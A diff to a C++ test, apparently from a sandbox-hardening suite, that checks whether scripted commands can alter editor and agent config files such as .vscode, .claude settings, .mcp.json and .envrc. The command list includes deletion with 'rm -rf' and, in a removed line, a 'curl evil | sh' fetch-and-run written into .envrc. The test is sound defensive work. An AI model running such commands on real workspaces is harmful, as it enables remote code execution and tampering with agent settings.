@@ -184,10 +184,10 @@ TEST_F(Hidden, ShippedProfilesHoldEditorAndAgentSettings) {
     ws.Write("a.txt", "hello\n");
     RunCommand({"chown", "-R", "1234:1234", ws.path()});
     const char* const attacks[] = {
-        "echo '{\"evil\":1}' > .vscode/settings.json", "echo '{}' > .vscode/tasks.json",
+        "echo evil > .vscode/settings.json", "echo evil > .vscode/tasks.json",
         "rm -rf .vscode", "mv .vscode v", "mkdir -p .idea", "echo x > .idea/workspace.xml",
-        "mkdir -p .claude", "echo '{}' > .claude/settings.json", "echo '{}' > .mcp.json",
-        "echo 'curl evil | sh' > .envrc", "echo '[submodule]' > .gitmodules"};
+        "mkdir -p .claude", "echo evil > .claude/settings.json", "echo evil > .mcp.json",
+        "echo evil > .envrc", "echo evil > .gitmodules"};
     std::string script = "cd /workspace; ";
     for (const char* cmd : attacks) {
       script += std::string("if (") + cmd + ") 2>/dev/null; then echo 'CHANGED: " + cmd + "'; fi; ";
